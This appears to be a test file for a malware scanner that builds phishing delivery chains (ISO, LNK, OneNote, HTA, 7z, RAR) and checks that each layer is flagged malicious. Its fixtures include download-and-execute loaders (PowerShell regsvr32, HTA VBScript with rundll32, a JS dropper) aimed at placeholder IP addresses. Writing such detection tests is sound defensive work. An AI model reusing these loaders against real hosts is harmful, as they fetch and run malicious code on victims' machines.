/**
 * The 2022–2023 delivery chains end to end through `scanInput`, every container built in code: mail → ZIP
 * → ISO → LNK → PowerShell, mail → OneNote → HTA, ISO → LNK → carved VBScript, 7z and RAR attachments.
 * Inert by construction: TEST-NET addresses, example.com, text where a program would be.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { walkResults, type ScanResult } from '../../src/core/index.js';
import { scanInput } from '../../src/pipeline/index.js';
import { buildFatImage, buildIso, buildLureIso } from '../builders/iso.js';
import { buildEmotetFindstrLnk, buildPowerShellLnk } from '../builders/lnk.js';
import { buildMime } from '../builders/mime.js';
import { buildLureOneNote } from '../builders/onenote.js';
import { buildRar5 } from '../builders/rar.js';
import { buildEncryptedHeaderSevenZip, buildSevenZip } from '../builders/sevenzip.js';
import { buildZip } from '../builders/zip.js';

const LOADER =
  '$u=\'http://192.0.2.44/x.dll\';$p="$env:TEMP\\x.dll";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process regsvr32.exe -ArgumentList "/s $p"';
const HTA = `<html><head><hta:application windowstate="minimize"/>
<script language="VBScript">
Set h = CreateObject("MSXML2.XMLHTTP") : h.Open "GET", "http://198.51.100.23/inv.dll", False : h.Send
Set s = CreateObject("ADODB.Stream") : s.Open : s.Type = 1 : s.Write h.responseBody : s.SaveToFile "C:\\ProgramData\\inv.dll", 2
CreateObject("WScript.Shell").Run "rundll32 C:\\ProgramData\\inv.dll,DllRegisterServer", 0
</script></head><body></body></html>`;

const nodes = (r: ScanResult) => [...walkResults(r)].map(([n]) => n);
const find = (r: ScanResult, suffix: string) => nodes(r).find((n) => n.path.endsWith(suffix));
const ids = (r: ScanResult) => new Set(nodes(r).flatMap((n) => n.findings.map((f) => f.id)));

test('mail → ZIP → ISO → LNK → -enc PowerShell loader: every layer typed, the chain malicious', async () => {
  const iso = buildLureIso(buildPowerShellLnk(LOADER));
  const zip = buildZip([{ name: 'Invoice_2022-04-25.zip.iso', data: iso }]);
  const mail = await buildMime({
    subject: 'Invoice',
    text: 'Please see the attached invoice.',
    attachments: [{ filename: 'Invoice.zip', content: zip }],
  });
  const result = await scanInput({ path: 'mail.eml', bytes: mail });
  assert.equal(result.verdict, 'malicious');
  assert.equal(find(result, '.iso')?.type, 'iso');
  const lnk = find(result, 'Invoice_2022-04-25.lnk')!;
  assert.equal(lnk.type, 'lnk');
  assert.equal(lnk.verdict, 'malicious');
  const ps = find(result, 'powershell-decoded-1.ps1')!;
  assert.equal(ps.type, 'powershell');
  assert.ok(ps.findings.some((f) => f.id === 'powershell.download-and-execute'));
  for (const id of [
    'container.disk-image',
    'container.hidden-member',
    'lnk.shell-command',
    'lnk.download-and-execute',
    'lnk.document-icon',
  ]) {
    assert.ok(ids(result).has(id), id);
  }
  assert.ok(lnk.extracted.iocs.urls.includes('http://192.0.2.44/x.dll'));
});

test('ISO → Emotet findstr LNK → carved VBScript: the carved script downloads and runs → malicious', async () => {
  const result = await scanInput({
    path: 'Form.iso',
    bytes: buildIso({
      files: [{ path: 'Form 04.25.2022, US.lnk', data: buildEmotetFindstrLnk() }],
    }),
  });
  assert.equal(result.verdict, 'malicious');
  const carved = find(result, 'carved-by-findstr.vbs')!;
  assert.equal(carved.type, 'script');
  assert.ok(carved.findings.some((f) => f.id === 'script.download-and-execute'));
  assert.ok(ids(result).has('lnk.carves-payload'));
});

test('mail → OneNote → HTA and .bat: embedded-script, the HTA downloads and runs → malicious', async () => {
  const one = buildLureOneNote(HTA, '@echo off\r\nstart /min mshta "%~dp0Open.hta"\r\n');
  const mail = await buildMime({
    subject: 'Scan',
    text: 'Double-click to open',
    attachments: [{ filename: 'Scan_0214.one', content: one }],
  });
  const result = await scanInput({ path: 'mail.eml', bytes: mail });
  assert.equal(result.verdict, 'malicious');
  const hta = find(result, 'Open.hta')!;
  assert.equal(hta.type, 'html');
  assert.ok(hta.findings.some((f) => f.id === 'script.download-and-execute'));
  assert.ok(ids(result).has('onenote.embedded-script'));
  assert.ok(ids(result).has('onenote.lure-text'));
});

test('7z with an HTA member → decoded and scanned → malicious; 7z with encrypted headers → suspicious, never clean', async () => {
  const plain = await scanInput({
    path: 'a.7z',
    bytes: buildSevenZip({ files: [{ name: 'invoice.hta', data: HTA }], encodeHeader: true }),
  });
  assert.equal(plain.verdict, 'malicious');
  const locked = await scanInput({ path: 'b.7z', bytes: buildEncryptedHeaderSevenZip() });
  assert.equal(locked.verdict, 'suspicious');
  assert.deepEqual(
    locked.findings.map((f) => f.id),
    ['container.encrypted-archive'],
  );
});

test('RAR with a compressed member → listed, suspicious; FAT .img → LNK member scanned', async () => {
  const rar = await scanInput({
    path: 'a.rar',
    bytes: buildRar5([{ name: 'invoice.exe', data: 'x', compressed: true }]),
  });
  assert.equal(rar.verdict, 'suspicious');
  const img = await scanInput({
    path: 'a.img',
    bytes: buildFatImage({ files: [{ path: 'Invoice.lnk', data: buildPowerShellLnk(LOADER) }] }),
  });
  assert.equal(img.type, 'fat');
  assert.equal(img.verdict, 'malicious');
});

test('ISO → .js dropper padded with 70 KB of comments: typed by its extension, still analysed → malicious', async () => {
  const js = `${'// lorem ipsum dolor sit amet\n'.repeat(2500)}var s = new ActiveXObject("WScript.Shell");\ns.Run("powershell -c iwr http://192.0.2.8/a.dll -OutFile a.dll; rundll32 a.dll,Run", 0);\n`;
  const result = await scanInput({
    path: 'a.iso',
    bytes: buildIso({ files: [{ path: 'invoice.js', data: js }] }),
  });
  const member = find(result, 'invoice.js')!;
  assert.equal(member.type, 'script');
  assert.equal(member.verdict, 'malicious');
});

test('an ordinary web page and an ordinary shortcut stay clean end to end', async () => {
  const page = new TextEncoder().encode(
    '<!DOCTYPE html><html><head><script async src="https://www.googletagmanager.com/gtag/js?id=G-X"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date());</script></head><body><p>こんにちは</p></body></html>',
  );
  const html = await scanInput({ path: 'index.html', bytes: page });
  assert.equal(html.type, 'html');
  assert.equal(html.verdict, 'clean');
  const { buildLnk } = await import('../builders/lnk.js');
  const lnk = await scanInput({
    path: 'Word.lnk',
    bytes: buildLnk({ target: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' }),
  });
  assert.equal(lnk.verdict, 'clean');
});
